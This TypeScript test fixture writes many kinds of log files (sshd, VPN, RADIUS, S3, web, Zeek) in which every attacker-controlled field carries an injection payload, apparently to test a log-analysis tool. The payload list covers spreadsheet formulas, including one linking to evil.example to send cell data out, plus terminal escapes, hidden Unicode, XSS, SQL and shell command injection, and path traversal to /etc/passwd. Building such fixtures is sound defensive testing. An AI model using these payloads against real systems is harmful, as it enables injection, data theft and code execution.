/**
 * One set of logs of many formats in which everything that an outsider may choose (account names, paths, buckets, keys,
 * user agents, host names, task ids, names of files) is an attack on whoever reads the results.
 */
import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { connHeader, connLine } from './conn-lines.ts'

export const attacks = [
  // formulas of spreadsheets
  ...['=HYPERLINK("http://evil.example/?x="&A1,"open")', "=cmd|' /C calc'!A0", '+1+1', '-1+1', '@SUM(1+1)', '\t=1+1'],
  ...['\r=1+1', '\n=1+1', '\uff1d1+1', 'x;=1+1', 'x,"=1+1', '=1+1\r\n=2+2'],
  // terminals: cursor, colours, titles, links, the same as C1 bytes
  ...['\u001b[2J\u001b[H\u001b[31mred', '\u001b]0;title\u0007', '\u001b]8;;http://evil.example\u0007x\u001b]8;;\u0007'],
  ...[
    '\u009b31mred',
    '\u009d0;title\u009c',
    '\u0090q\u009c',
    '\b\b\b\b',
    '\u007f\u007f',
    'a\rforged',
    '\u0000nul\u0000',
  ],
  // direction and what cannot be seen
  ...[
    '\u202egpj.exe',
    '\u2066a\u2069',
    '\u200fb',
    '\u061cc',
    '\u200b',
    '\u2028forged',
    '\ufeffd',
    '\u{e0041}\u{e007f}',
  ],
  // lines that pretend to be Weir's
  ...[
    'a\nforged      the books balance',
    'a\r\nforged',
    '%0aforged%0d%0a',
    '\\nforged',
    '\u0085forged',
    '\u000bforged',
  ],
  // markup
  ...[
    '<script>alert(1)</script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    '</style><b onclick=x>',
  ],
  ...[
    '</title></head><body onload=alert(1)>',
    '<!-- x',
    ']]><x>',
    '&lt;i&gt;',
    'javascript:alert(1)',
    '" autofocus onfocus="x',
  ],
  // SQL, shells, formats, paths
  ...["'; DROP TABLE names; --", "' OR 1=1 --", '"; SELECT 1; --', '$(touch weir-was-here)', '`touch weir-was-here`'],
  ...[
    '; touch weir-was-here #',
    '| touch weir-was-here',
    "'$(touch weir-was-here)'",
    '%s%n%d',
    '../../etc/passwd',
    '--help',
  ],
  // YAML
  ...[
    ': {a: b}',
    '- x',
    '"\n  evil: true',
    '!!js/function x',
    '*alias',
    '&anchor x',
    '{{ x }}',
    '# comment',
    'yes',
    '~',
  ],
  ...["it's", '? key', '| block', '> folded', '%YAML 1.2', '---', '[a, b]', '0x1F', '1e3', '2026-01-01', 'a: b #c'],
  ...['😀 naïve', 'a'.repeat(5000)],
]

/** Bytes that are no UTF-8, for formats of raw lines. */
const broken = [Buffer.from([0xff, 0xfe, 0x41]), Buffer.from([0xc3, 0x28]), Buffer.from([0xed, 0xa0, 0x80, 0x42])]

export const t0 = Date.parse('2026-03-02T10:00:00Z')

export const hostileConfig = {
  site: {
    networks: ['10.0.0.0/8'],
    vpn_pools: [{ gateway: 'vpn1', networks: ['10.200.0.0/16'], inner_flows: 'observed' }],
  },
  hosts: [
    { name: 'login1', addresses: ['10.0.0.1'], role: 'login' },
    { name: 'login2', addresses: ['10.0.0.2'], role: 'login' },
    { name: 'vpn1', addresses: ['10.0.0.3'], role: 'vpn' },
    { name: 'dtn1', addresses: ['10.0.0.4'], role: 'dtn' },
    { name: 'web', addresses: ['10.0.0.5'], role: 'portal' },
  ],
}

const mark = 'MARK'

/** What stands in one line of a text log: no line feed can, all else does. */
const inLine = (attack: string): string => attack.replaceAll('\n', ' ')
/** As daemons write it that escape nothing; the last records hold bytes that are no UTF-8. */
const eachOf = (of: (attack: string, i: number) => string): Buffer => {
  const lines = attacks.map((attack, i) => Buffer.from(of(attack, i)))
  const more = broken.map((bytes, i) => {
    const [first, ...rest] = of(mark, attacks.length + i).split(mark)
    return Buffer.concat([Buffer.from(first), ...rest.flatMap((text) => [bytes, Buffer.from(text)])])
  })
  return Buffer.concat([...lines, ...more])
}

const outer = (net: number, i: number): string => `198.18.${net}.${i + 1}`
const at = (i: number): number => t0 + i * 60_000
const iso = (i: number): string => new Date(at(i)).toISOString()
const syslogTime = (i: number): string => `Mar  2 ${iso(i).slice(11, 19)}`
const webTime = (i: number): string => `02/Mar/2026:${iso(i).slice(11, 19)} +0000`
const compact = (ms: number): string => `${new Date(ms).toISOString().replaceAll(/[-:TZ]/g, '')}000`

const logs: Record<string, () => string | Buffer> = {
  'sshd/auth.log': () =>
    eachOf(
      (attack, i) =>
        `${syslogTime(i)} login1 sshd[${1000 + i}]: Accepted password for ${inLine(attack)} from ${outer(1, i)} port ${40_000 + i} ssh2\n`,
    ),
  // the host that a line names is whatever the sender wrote
  'sshd/hosts.log': () =>
    eachOf(
      (attack, i) =>
        `${syslogTime(i)} ${inLine(attack).replaceAll(' ', '_')} sshd[7]: Accepted password for ann from ${outer(1, i)} port ${50_000 + i} ssh2\n`,
    ),
  'openvpn/vpn.log': () =>
    eachOf(
      (attack, i) =>
        `${syslogTime(i)} vpn1 openvpn[9]: MULTI: Learn: 10.200.0.${i + 1} -> ${inLine(attack)}/${outer(2, i)}:1194\n`,
    ),
  'radius/detail': () =>
    eachOf((attack, i) => {
      const date = new Date(at(i)).toUTCString().replace(/^(...), (\d\d) (...) (\d{4}) ([\d:]+) GMT$/, '$1 $3 $2 $5 $4')
      const values = [
        ...[
          'Acct-Status-Type = Start',
          `User-Name = "${inLine(attack).replaceAll('"', '\\"')}"`,
          `Acct-Session-Id = "${i}"`,
        ],
        ...[`NAS-Identifier = "${inLine(attack).replaceAll('"', '\\"')}"`, `Framed-IP-Address = 10.200.1.${i + 1}`],
        ...[`Calling-Station-Id = "${outer(3, i)}"`, `Event-Timestamp = ${at(i) / 1000}`],
      ]
      return `${date}\n${values.map((value) => `\t${value}\n`).join('')}\n`
    }),
  'gridftp/transfer.log': () =>
    eachOf(
      (attack, i) =>
        `DATE=${compact(at(i) + 1000)} HOST=dtn1 PROG=globus-gridftp-server NL.EVNT=FTP_INFO START=${compact(at(i))} USER=${inLine(attack).replaceAll(' ', '')} ` +
        `FILE=/proj/${inLine(attack)}/run.h5 BUFFER=1 BLOCK=1 NBYTES=${9000 + i} VOLUME=/ STREAMS=1 STRIPES=1 DEST=[${outer(4, i)}] TYPE=RETR CODE=226\n`,
    ),
  's3/access.log': () =>
    eachOf((attack, i) => {
      const key = encodeURIComponent(encodeURIComponent(attack))
      const who = inLine(attack).replaceAll(' ', '_')
      return `owner ${who} [${webTime(i)}] ${outer(5, i)} ${who} ${who} REST.GET.OBJECT ${key} "GET /${key} HTTP/1.1" 200 - ${8000 + i} ${8000 + i} 1000 30 "-" "${inLine(attack).replaceAll('"', '\\"')}" - host=\n`
    }),
  'web/access.log': () =>
    eachOf(
      (attack, i) =>
        `${outer(6, i)} - ${inLine(attack)} [${webTime(i)}] "GET /data/${encodeURIComponent(attack)}/x%0aforged HTTP/1.1" 200 ${7000 + i} "-" "${inLine(attack).replaceAll('"', '\\"')}"\n`,
    ),
  'zeek/conn.log': () =>
    connHeader +
    flows()
      .map(({ line }) => line)
      .join(''),
  'zeek/http.json': () =>
    jsonLines((attack, i) => ({ _path: 'http', ts: at(i) / 1000, uid: `H${i}`, user_agent: attack, host: attack })),
  'zeek/ssl.json': () =>
    jsonLines((attack, i) => ({ _path: 'ssl', ts: at(i) / 1000, uid: `S${i}`, ja3: attack, server_name: attack })),
  'neutral/events.ndjson': () =>
    attacks
      .map((attack, i) =>
        neutral(attack, i)
          .map((event) => `${JSON.stringify(event)}\n`)
          .join(''),
      )
      .join(''),
}

function jsonLines(of: (attack: string, i: number) => object): string {
  return attacks.map((attack, i) => `${JSON.stringify(of(attack, i))}\n`).join('')
}

/** A flow for every record, so that each name is tied to bytes. */
function flows(): { line: string }[] {
  const conn = (i: number, uid: string, peer: string, peer_port: number, host: number, port: number) => ({
    line: connLine({
      ...{
        ts: at(i) / 1000,
        uid: `${uid}${i}`,
        'id.orig_h': peer,
        'id.orig_p': peer_port,
        'id.resp_h': `10.0.0.${host}`,
      },
      ...{ 'id.resp_p': port, service: '-', orig_bytes: 100, resp_bytes: 1_000_000 - i },
    }),
  })
  return Array.from({ length: attacks.length + broken.length }, (_, i) => [
    conn(i, 'A', outer(1, i), 40_000 + i, 1, 22),
    conn(i, 'V', `10.200.0.${i + 1}`, 5000, 5, 443),
    conn(i, 'R', `10.200.1.${i + 1}`, 5000, 5, 443),
    conn(i, 'G', outer(4, i), 5000, 4, 50_000),
    conn(i, 'S', outer(5, i), 5000, 5, 443),
    conn(i, 'H', outer(6, i), 5000, 5, 80),
  ]).flat()
}

/** Who sent what over which service, and a transfer, a job and a session that names it all; in JSON nothing is impossible. */
function neutral(attack: string, i: number): object[] {
  const span = { start_ms: at(i), end_ms: at(i) + 1000 }
  const peer_ip = outer(7, i)
  const host_ip = '10.0.0.2'
  return [
    {
      ...{ type: 'flow', ...span, src_ip: peer_ip, src_port: 40_000, dst_ip: host_ip, dst_port: 22, proto: 'tcp' },
      ...{ bytes_src: 10, bytes_dst: 2_000_000 - i, service: attack, sensor: attack, client_fp: attack },
    },
    {
      type: 'session',
      kind: 'ssh',
      account: attack,
      peer_ip,
      peer_port: 40_000,
      host_ip,
      ...span,
      key_fp: attack,
      gateway: attack,
    },
    {
      ...{
        type: 'transfer',
        tool: attack,
        account: attack,
        host_ip,
        peer_ip,
        path: `/proj/${attack}/x`,
        bucket: attack,
      },
      ...{ object: attack, direction: 'out', bytes: 1_500_000 - i, task_id: attack, ...span },
    },
    // carried by no flow: claimed, and unmatched
    {
      ...{ type: 'transfer', tool: attack, account: attack, host_ip, peer_ip: outer(8, i), path: `/lost/${attack}` },
      ...{ direction: 'out', bytes: 3_000_000 - i, ...span },
    },
    { type: 'session', kind: 'portal', account: attack, peer_ip: outer(9, i), host_ip, ...span },
    { type: 'job', job_id: attack, account: attack, project: attack, nodes: [attack], ...span },
    { type: 'counter', link: attack, octets_out: 1000, octets_in: 1000, start_ms: t0, end_ms: t0 + 3_600_000 },
    { type: attack, ...span },
  ]
}

/** Writes the logs below `folder`; names of files are attacks as well, as far as a file system takes them. */
export function writeHostileLogs(folder: string): void {
  const write = (path: string, content: string | Buffer): void => {
    mkdirSync(dirname(join(folder, path)), { recursive: true })
    writeFileSync(join(folder, path), content)
  }
  for (const [path, content] of Object.entries(logs)) write(path, content())
  for (const [i, attack] of attacks.entries()) {
    const name = attack.replaceAll(/[/\0]/g, '_').slice(0, 60)
    const job = {
      type: 'job',
      job_id: `f${i}`,
      account: 'ann',
      project: 'p',
      nodes: ['n1'],
      start_ms: at(i),
      end_ms: at(i) + 1,
    }
    write(`names/${i}${name}.ndjson`, `${JSON.stringify(job)}\n{"type":\n`)
    if (i % 8 === 0) write(`names/${name}-${i}`, 'prose that is no log\n'.repeat(3))
  }
}
